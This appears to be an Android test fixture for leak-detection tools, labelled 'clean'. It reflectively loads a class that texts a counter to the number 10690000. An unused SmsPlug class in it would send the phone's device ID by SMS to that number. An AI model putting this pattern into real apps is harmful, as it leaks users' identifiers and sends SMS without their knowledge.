// about       A loader made for the app's own package loads a class that only counts.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import dalvik.system.PathClassLoader;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    ClassLoader loader = new PathClassLoader(getPackageCodePath(), getClassLoader());
    try {
      // The class that is loaded.
      Class<?> type = loader.loadClass("cn.example.flow.CountPlug");
      Plug plug = (Plug) type.newInstance();
      plug.take(phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

interface Plug {
  void take(String text);
}

class SmsPlug implements Plug {
  @Override
  public void take(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class CountPlug implements Plug {
  private int taken;

  @Override
  public void take(String text) {
    taken++;
    SmsManager.getDefault().sendTextMessage("10690000", null, "taken " + taken, null, null);
  }
}
